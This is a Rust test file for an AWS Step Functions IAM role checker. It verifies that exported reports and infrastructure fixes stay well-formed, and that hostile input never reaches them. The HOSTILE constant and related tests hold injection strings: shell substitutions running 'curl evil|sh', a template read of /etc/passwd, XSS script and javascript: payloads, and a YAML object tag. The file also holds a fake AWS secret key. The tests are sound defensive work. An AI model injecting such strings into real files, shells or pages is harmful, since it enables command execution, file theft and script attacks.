//! Reports and fixes in the forms of other tools.
//!
//! `tests/data/sarif-schema-2.1.0.json` is the schema of the OASIS SARIF Technical Committee
//! (`Schemata/sarif-schema-2.1.0.json` of its repository `oasis-tcs/sarif-spec`), as the crate
//! serde-sarif 0.8.0 has it.

use serde_json::{Value, json};
use sfn_role_check::export::{self, Chosen, FixFormat, ReportFormat};
use sfn_role_check::report::FixTarget;
use sfn_role_check::text::Tree;
use sfn_role_check::{Workspace, analyze};
use test_support::{Case, EXECUTION, OTHER, OWN};

const CODE: [FixFormat; 4] = [
    FixFormat::CloudFormation,
    FixFormat::Terraform,
    FixFormat::Cdk,
    FixFormat::Cli,
];
const TARGET: &str = "arn:aws:iam::444455556666:role/target";

fn example(name: &str) -> Workspace {
    let path = format!("{}/www/examples/{name}.json", env!("CARGO_MANIFEST_DIR"));
    let file: Value = serde_json::from_str(&std::fs::read_to_string(path).unwrap()).unwrap();
    Workspace::from_json(&file["workspace"].to_string()).unwrap()
}

fn report(workspace: &Workspace, format: ReportFormat) -> String {
    export::report(workspace, &analyze(workspace), format)
}

fn fixes(workspace: &Workspace, format: FixFormat) -> String {
    export::fixes(workspace, &analyze(workspace), format, Chosen::All)
}

/// A machine that passes that role, and may do nothing.
fn passing(role: &str) -> Case {
    Case::new()
        .task(
            "arn:aws:states:::mediaconvert:createJob",
            &json!({"Role": role}),
        )
        .policy(&json!([]))
}

/// A machine that assumes a role which trusts nobody of it.
fn assuming(trust: &str) -> Case {
    let state = json!({"Type": "Task", "Resource": "arn:aws:states:::sns:publish",
        "Credentials": {"RoleArn": TARGET}, "Parameters": {}, "End": true});
    Case::new().state(&state).policy(&json!([])).document(
        json!({"name": "trust.json", "kind": "trust-policy", "role": TARGET, "text": trust}),
    )
}

const TRUST: &str = r#"{"Version": "2012-10-17", "Statement": {"Sid": "Old", "Effect": "Allow", "Action": "sts:AssumeRole", "Principal": {"Service": "ec2.amazonaws.com"}}}"#;

#[test]
fn a_report_as_markdown() {
    insta::assert_snapshot!(report(&example("ecs-run-task"), ReportFormat::Markdown));
}

#[test]
fn a_report_as_sarif() {
    let sarif = report(&example("ecs-run-task"), ReportFormat::Sarif);
    insta::assert_snapshot!(sarif.replace(env!("CARGO_PKG_VERSION"), "VERSION"));
}

#[test]
fn a_report_as_json_is_the_report() {
    let workspace = example("cross-account");
    let text = report(&workspace, ReportFormat::Json);
    let whole: Value = serde_json::from_str(&text).unwrap();
    assert_eq!(whole, serde_json::to_value(analyze(&workspace)).unwrap());
}

#[test]
fn fixes_as_cloudformation() {
    insta::assert_snapshot!(fixes(&example("cross-account"), FixFormat::CloudFormation));
}

#[test]
fn fixes_as_terraform() {
    insta::assert_snapshot!(fixes(&example("cross-account"), FixFormat::Terraform));
}

#[test]
fn fixes_as_cdk() {
    insta::assert_snapshot!(fixes(&example("cross-account"), FixFormat::Cdk));
}

#[test]
fn fixes_as_commands() {
    insta::assert_snapshot!(fixes(&example("cross-account"), FixFormat::Cli));
}

#[test]
fn fixes_of_a_role_as_one_policy() {
    insta::assert_snapshot!(fixes(&example("ecs-run-task"), FixFormat::Merged));
}

#[test]
fn one_fix_is_its_statement() {
    let workspace = example("ecs-run-task");
    let report = analyze(&workspace);
    let of = |chosen| export::fixes(&workspace, &report, FixFormat::Json, chosen);
    let statement: Value = serde_json::from_str(&of(Chosen::One(0))).unwrap();
    assert_eq!(
        statement,
        serde_json::to_value(&report.fixes[0].statement).unwrap()
    );
    let role = report.fixes[0].role.as_str();
    for (chosen, is_there) in [
        (Chosen::All, true),
        (Chosen::Role(role), true),
        (Chosen::Role("nobody"), false),
        (Chosen::One(99), false),
    ] {
        let text = export::fixes(&workspace, &report, FixFormat::Cdk, chosen);
        assert_eq!(!text.is_empty(), is_there, "{text}");
    }
    for (name, is_report, is_of_fixes) in [
        ("sarif", true, false),
        ("markdown", true, false),
        ("cdk", false, true),
        ("", false, false),
    ] {
        assert_eq!(ReportFormat::of_name(name).is_some(), is_report, "{name}");
        assert_eq!(FixFormat::of_name(name).is_some(), is_of_fixes, "{name}");
    }
}

/// What people and attackers call things.
const HOSTILE: [&str; 19] = [
    "x;curl evil|sh",
    "${file(\"/etc/passwd\")}",
    "${self:custom.x;curl evil|sh}",
    "<b;curl evil>",
    "$${x}",
    "%{ if true }evil%{ endif }",
    "$(curl evil)",
    "`curl evil`",
    "'; curl evil; '",
    "\"; curl evil; \"",
    "x\ncurl evil\n",
    "x\r\n# evil",
    "!!python/object:evil",
    "&evil *evil",
    "*/ evil /*",
    "</script><script>evil()</script>",
    "](javascript:evil)",
    "[evil](javascript:evil) | evil | `evil`",
    "\\'evil\\\"\\",
];

/// The same hostile text wherever text can be pasted.
fn hostile_workspaces(text: &str) -> Vec<Workspace> {
    let arn = format!("arn:aws:iam::{OWN}:role/{text}");
    let in_account = format!("arn:aws:iam::{text}:role/x");
    let mut cases: Vec<Case> = [text, &arn, &in_account]
        .iter()
        .flat_map(|role| {
            let state = json!({"Type": "Task", "Resource": "arn:aws:states:::sns:publish",
                "Credentials": {"RoleArn": role}, "Parameters": {}, "End": true});
            [
                passing(role),
                passing(TARGET).setting("executionRole", role),
                assuming(TRUST).setting("executionRole", role),
                assuming(TRUST).setting("stateMachineArn", role),
                Case::new().state(&state).policy(&json!([])),
                Case::new()
                    .state(&state)
                    .policy_of("trust-policy", role, &json!([])),
            ]
        })
        .collect();
    let states = json!({"StartAt": text, "States": {text: {"Type": "Task",
        "Resource": "arn:aws:states:::mediaconvert:createJob", "Parameters": {"Role": arn}, "End": true}}});
    cases.push(
        Case::new()
            .text(text, "state-machine", &states.to_string())
            .policy(&json!([{"Sid": text, "Effect": text, "Action": text, "Resource": text, text: text}])),
    );
    let trust = json!({"Version": "2012-10-17", "Statement": [{"Sid": text, "Effect": "Allow",
        "Action": "sts:AssumeRole", "Principal": {"AWS": format!("arn:aws:iam::{OTHER}:role/x")},
        "Condition": {"StringEquals": {"aws:PrincipalTag/x": text}}}]});
    cases.push(assuming(&trust.to_string()));
    cases.iter().map(Case::workspace).collect()
}

#[test]
fn hostile_text_never_enters_code() {
    for text in HOSTILE {
        for workspace in hostile_workspaces(text) {
            let report = analyze(&workspace);
            for format in CODE {
                let code = export::fixes(&workspace, &report, format, Chosen::All);
                assert!(!code.contains(text), "{format:?} {text:?}\n{code}");
                for word in ["evil", "curl", "passwd", "script>", "%{", "$$", "`"] {
                    assert!(!code.contains(word), "{format:?} {text:?}\n{code}");
                }
                let odd = |letter: char| letter != '\n' && !(' '..='~').contains(&letter);
                assert!(!code.contains(odd), "{format:?} {text:?}\n{code}");
            }
        }
    }
}

#[test]
fn hostile_text_breaks_no_form() {
    let schema = Schema::new();
    for text in HOSTILE {
        for workspace in hostile_workspaces(text) {
            let made = analyze(&workspace);
            let of = |format| export::report(&workspace, &made, format);
            let sarif = of(ReportFormat::Sarif);
            for result in schema.check(&sarif)["runs"][0]["results"]
                .as_array()
                .unwrap()
            {
                let message = result["message"]["text"].as_str().unwrap();
                assert!(!message.contains("]("), "{message}");
                let rest = message.replace("{{", "").replace("}}", "");
                assert!(!rest.contains(['{', '}', '\n']), "{message}");
            }
            check_markdown(&of(ReportFormat::Markdown));
            let template = export::fixes(&workspace, &made, FixFormat::CloudFormation, Chosen::All);
            for document in template.split("---\n").filter(|text| !text.is_empty()) {
                let reading = sfn_role_check::text::yaml::read(document, 0);
                assert!(reading.findings.is_empty(), "{document}");
                let root = reading.root.unwrap();
                assert!(
                    root.get("Resources").is_some()
                        || root.get("AssumeRolePolicyDocument").is_some(),
                    "{document}"
                );
            }
        }
    }
}

/// Outside of code spans and blocks nothing but plain words; tables keep their cells.
#[track_caller]
fn check_markdown(text: &str) {
    let mut in_block = false;
    for line in text.lines() {
        if line.starts_with("```") {
            in_block = !in_block;
            assert!(["```", "```json"].contains(&line), "{line}");
            continue;
        }
        if in_block {
            assert!(line.is_ascii());
            continue;
        }
        assert_eq!(line.matches('`').count() % 2, 0, "{line}");
        let outside: String = line.split('`').step_by(2).collect();
        for sign in ["[", "]", "<", ">", "\\", "://", "@", "*/", "/*", "&"] {
            assert!(!outside.contains(sign), "{sign} in {line}");
        }
        if line.starts_with('|') {
            assert_eq!(line.matches('|').count(), 7, "{line}");
        }
    }
    assert!(!in_block);
}

struct Schema {
    schemas: boon::Schemas,
    index: boon::SchemaIndex,
}

impl Schema {
    fn new() -> Self {
        let path = format!(
            "{}/tests/data/sarif-schema-2.1.0.json",
            env!("CARGO_MANIFEST_DIR")
        );
        let schema = serde_json::from_str(&std::fs::read_to_string(path).unwrap()).unwrap();
        let mut schemas = boon::Schemas::new();
        let mut compiler = boon::Compiler::new();
        compiler.enable_format_assertions();
        compiler.add_resource("sarif.json", schema).unwrap();
        let index = compiler.compile("sarif.json", &mut schemas).unwrap();
        Self { schemas, index }
    }

    #[track_caller]
    fn check(&self, text: &str) -> Value {
        let log = serde_json::from_str(text).unwrap();
        if let Err(error) = self.schemas.validate(&log, self.index) {
            panic!("{error:#}\n{text}");
        }
        log
    }
}

#[test]
fn sarif_fits_its_schema_and_names_places() {
    let schema = Schema::new();
    for name in ["ecs-run-task", "cross-account"] {
        let workspace = example(name);
        let log = schema.check(&report(&workspace, ReportFormat::Sarif));
        let made = analyze(&workspace);
        let results = log["runs"][0]["results"].as_array().unwrap();
        let open = (made.summary.missing + made.summary.denied + made.summary.undecided) as usize;
        assert_eq!(results.len(), open + made.notices.len());
        let rules = log["runs"][0]["tool"]["driver"]["rules"]
            .as_array()
            .unwrap();
        for result in results {
            let rule = result["ruleIndex"].as_u64().unwrap() as usize;
            assert_eq!(rules[rule]["id"], result["ruleId"]);
        }
    }
    // The schema is no empty word.
    let broken = json!({"version": "2.1.0", "runs": [{}]});
    assert!(schema.schemas.validate(&broken, schema.index).is_err());
}

#[test]
fn names_of_documents_are_references_within_the_folder() {
    for (name, uri) in [
        ("machine.asl.json", "machine.asl.json"),
        ("a folder/machine.json", "a%20folder/machine.json"),
        ("javascript:evil()", "javascript%3Aevil%28%29"),
        ("//evil.example/x", "/%2Fevil.example/x"),
        ("a%2Fb?c#d", "a%252Fb%3Fc%23d"),
        ("ä.json", "%C3%A4.json"),
        ("", "document-1"),
    ] {
        let workspace = Case::new().text(name, "state-machine", "{").workspace();
        let log: Value = Schema::new().check(&report(&workspace, ReportFormat::Sarif));
        let run = &log["runs"][0];
        assert_eq!(run["artifacts"][0]["location"]["uri"], uri);
        let place = &run["results"][0]["locations"][0]["physicalLocation"];
        assert_eq!(place["artifactLocation"]["uri"], uri);
    }
}

#[test]
fn placeholders_are_words_and_parameters_of_templates_stay() {
    let workspace =
        passing("arn:${AWS::Partition}:iam::${AWS::AccountId}:role/${Stage}-job-${Stage}-${Other}")
            .workspace();
    let template = fixes(&workspace, FixFormat::CloudFormation);
    // The account is told.
    let arn = "'arn:${AWS::Partition}:iam::111122223333:role/NAME-job-NAME-NAME_2'";
    assert!(
        template.contains(&format!("Resource: !Sub {arn}")),
        "{template}"
    );
    assert!(
        template.contains("# replace PARTITION, NAME, NAME_2\n"),
        "{template}"
    );
    let terraform = fixes(&workspace, FixFormat::Terraform);
    let arn = "[\"arn:PARTITION:iam::111122223333:role/NAME-job-NAME-NAME_2\"]";
    assert!(terraform.contains(arn), "{terraform}");
}

#[test]
fn a_trust_policy_is_replaced_only_by_a_whole_one() {
    let command = |trust: &str| {
        let workspace = assuming(trust).workspace();
        let report = analyze(&workspace);
        let of_trust = report
            .fixes
            .iter()
            .position(|fix| fix.target == FixTarget::TrustPolicy)
            .unwrap();
        export::fixes(&workspace, &report, FixFormat::Cli, Chosen::One(of_trust))
    };
    let whole = command(TRUST);
    let (_, document) = whole.split_once("--policy-document '").unwrap();
    let policy: Value = serde_json::from_str(document.trim_end().trim_end_matches('\'')).unwrap();
    assert_eq!(policy["Version"], "2012-10-17");
    assert_eq!(policy["Statement"][0]["Sid"], "Old");
    assert_eq!(policy["Statement"][1]["Principal"]["AWS"], EXECUTION);
    assert_eq!(policy["Statement"].as_array().unwrap().len(), 2);

    let role = format!(
        r#"{{"Role": {{"RoleName": "target", "Arn": "{TARGET}", "AssumeRolePolicyDocument": {TRUST}}}}}"#
    );
    let workspace = Case::new()
        .state(
            &json!({"Type": "Task", "Resource": "arn:aws:states:::sns:publish",
            "Credentials": {"RoleArn": TARGET}, "Parameters": {}, "End": true}),
        )
        .policy(&json!([]))
        .document(json!({"name": "role.json", "text": role}))
        .workspace();
    let text = fixes(&workspace, FixFormat::Cli);
    assert!(
        text.contains("update-assume-role-policy --role-name target "),
        "{text}"
    );

    for faulty in [
        // Repaired, said twice, another version, and a text that a shell might read.
        TRUST.trim_end_matches('}').to_owned(),
        TRUST.replacen('{', r#"{"Version": "2012-10-17","#, 1),
        TRUST.replace("2012-10-17", "2008-10-17"),
        TRUST.replace("Old", "x'; curl evil"),
        format!("# YAML\n{TRUST}"),
    ] {
        assert_eq!(command(&faulty), "", "{faulty}");
    }
}

#[test]
fn a_merged_policy_is_the_policy_with_each_sid_once() {
    let workspace = passing(TARGET.replace(OTHER, OWN).as_str()).workspace();
    let mut report = analyze(&workspace);
    let fix = report.fixes[0].clone();
    report.fixes.push(fix.clone());
    report.fixes.push(fix);
    let merged = |report: &sfn_role_check::Report, chosen| {
        export::fixes(&workspace, report, FixFormat::Merged, chosen)
    };
    let policy: Value = serde_json::from_str(&merged(&report, Chosen::Role(EXECUTION))).unwrap();
    assert_eq!(policy["Version"], "2012-10-17");
    let statements = policy["Statement"].as_array().unwrap().iter();
    let sids: Vec<&Value> = statements.map(|statement| &statement["Sid"]).collect();
    let expected = [
        "PassRoleToMediaconvert",
        "PassRoleToMediaconvert2",
        "PassRoleToMediaconvert3",
    ];
    assert_eq!(sids, expected);
    // Those of several roles stand one after the other.
    report.fixes[2].role = TARGET.to_owned();
    let text = merged(&report, Chosen::All);
    let policies: Vec<Value> = serde_json::Deserializer::from_str(&text)
        .into_iter()
        .collect::<Result<_, _>>()
        .unwrap();
    let counts: Vec<usize> = policies
        .iter()
        .map(|policy| policy["Statement"].as_array().unwrap().len())
        .collect();
    assert_eq!(counts, [2, 1]);
}

#[test]
fn secrets_stay_out_of_every_form() {
    // Made of two parts, so that no scanner takes this file for a leak.
    let key = format!("AKIA{}", "J5Q7XRW2ZK4MPT3B");
    let secret = "wJalrXUtnFEMIK7MDENGbPxRfiCYzzzzzzzzzzzz";
    let role = format!("arn:aws:iam::{OWN}:role/{key}");
    let note = json!({"aws_secret_access_key": secret, "StartAt": secret, "States": {secret: {"Type": "Task",
        "Resource": "arn:aws:states:::mediaconvert:createJob", "Parameters": {"Role": role}, "End": true}}});
    let workspace = Case::new()
        .text("machine.json", "state-machine", &note.to_string())
        .policy(&json!([]))
        .workspace();
    let mut texts = vec![
        report(&workspace, ReportFormat::Json),
        report(&workspace, ReportFormat::Markdown),
        report(&workspace, ReportFormat::Sarif),
        fixes(&workspace, FixFormat::Json),
        fixes(&workspace, FixFormat::Merged),
    ];
    texts.extend(CODE.map(|format| fixes(&workspace, format)));
    for text in texts {
        assert!(!text.is_empty());
        assert!(!text.contains(&key) && !text.contains(secret), "{text}");
    }
}
